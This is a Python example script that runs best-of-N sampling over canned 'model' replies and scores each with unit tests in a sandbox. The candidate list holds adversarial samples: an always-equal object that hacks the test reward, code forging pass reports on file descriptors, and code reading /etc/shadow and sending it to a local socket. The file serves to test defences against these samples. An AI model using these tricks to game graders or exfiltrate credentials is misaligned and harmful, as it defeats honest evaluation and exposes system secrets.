"""Best-of-N over model-written code, scored by unit tests in a sandbox. No API key needed.

The "model" is a stand-in that returns, in turn, a wrong solution, a reward hacker (an
object whose ``__eq__`` is always true), one that tries to forge its report on every
file descriptor, one that reads ``/etc/shadow`` and phones home, one that never ends,
and finally a correct solution. Each runs in the strongest sandbox this machine offers
(bubblewrap where installed); the tests use ``strict_equal``, so only the correct one
scores 1.0. Swap ``generate`` for a real client call and nothing else changes.

    python examples/code_verifier_sandbox.py [--isolate-tests]
"""

from __future__ import annotations

import argparse
import itertools
import threading

from tcc_plugin.sampling import best_of_n, code_verifier

REPLIES = [
    "```python\ndef median(xs):\n    return sorted(xs)[len(xs) // 2]\n```",
    "```python\nclass Yes(float):\n    def __eq__(self, other):\n        return True\n"
    "    __hash__ = float.__hash__\n\ndef median(xs):\n    return Yes(0)\n```",
    "```python\nimport os\nfor fd in range(3, 64):\n    try:\n"
    "        os.write(fd, b'ready\\npass 0\\npass 1\\npass 2\\nend\\n')\n"
    "    except OSError:\n        pass\ndef median(xs):\n    return 0\n```",
    "```python\nimport socket\nsecret = open('/etc/shadow').read()\n"
    "socket.create_connection(('127.0.0.1', 8080)).send(secret.encode())\n```",
    "```python\nwhile True:\n    pass\n```",
    "```python\ndef median(xs):\n    s = sorted(xs)\n    n = len(s)\n"
    "    return s[n // 2] if n % 2 else (s[n // 2 - 1] + s[n // 2]) / 2\n```",
]
TESTS = [
    "assert strict_equal(median([3, 1, 2]), 2)",
    "assert strict_equal(median([4, 1, 3, 2]), 2.5)",
    "assert strict_equal(median([7]), 7)",
]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--isolate-tests", action="store_true")
    args = parser.parse_args()
    replies, lock = itertools.cycle(REPLIES), threading.Lock()

    def generate() -> str:  # your (instrumented) model call
        with lock:
            return next(replies)

    verifier = code_verifier(TESTS, timeout=3, isolate_tests=args.isolate_tests)
    result = best_of_n(generate, n=len(REPLIES), concurrency=1, verifier=verifier)
    for candidate in result.candidates:
        verdict = candidate.verdict
        assert verdict is not None
        print(
            f"candidate {candidate.index}: score {verdict.score:.2f}  "
            f"{verdict.details['outcome']:<8} ({verdict.details['sandbox']})"
        )
    assert result.winner is not None
    print(f"winner: candidate {result.winner.index}, score {result.score:.2f}")


if __name__ == "__main__":
    main()
